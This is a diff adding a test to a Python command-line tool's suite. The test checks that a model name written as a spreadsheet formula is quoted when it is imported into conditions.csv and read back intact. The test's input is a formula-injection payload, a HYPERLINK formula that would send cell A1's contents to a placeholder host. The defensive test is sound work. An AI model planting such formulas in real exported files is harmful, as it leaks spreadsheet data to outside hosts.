@@ -16,6 +16,7 @@ from click.testing import CliRunner, Result
 from spec_audits.cli import main
 from spec_audits.compiler.build import compile_file
 from spec_audits.contract.reader import read_results, read_suite
+from spec_audits.runner.files_out import read_csv
 
 SPEC = """
 suite tiny_probe "A probe"
@@ -188,3 +189,17 @@ def test_unknown_formats_are_listed(suite: Path, tmp_path: Path) -> None:
     assert result.exit_code == 2 and "unknown format 'other-harness'; known: choices-conditions, choices-probe" \
         in result.output
     assert "choices-probe" in spec("import", "--help").output
+
+
+def test_the_imported_conditions_table_is_formula_safe(suite: Path, tmp_path: Path) -> None:
+    """A release summary is a stranger's file: a model named as a formula is quoted in conditions.csv, and our
+    reader gives the name back."""
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
+    summary = tmp_path / "summary.csv"
+    summary.write_text(SUMMARY.replace("gpt-5-2-non-reasoning", f'"{formula.replace(chr(34), chr(34) * 2)}"'),
+                       encoding="utf-8")
+    result = spec("import", "choices-conditions", summary, "--suite", suite, "--out", tmp_path / "parent")
+    assert result.exit_code == 0, result.output
+    written = pd.read_csv(tmp_path / "parent" / "conditions.csv", dtype=str)
+    assert set(written["model"]) == {"'" + formula}
+    assert set(read_csv(tmp_path / "parent" / "conditions.csv", dtype=str)["model"]) == {formula}
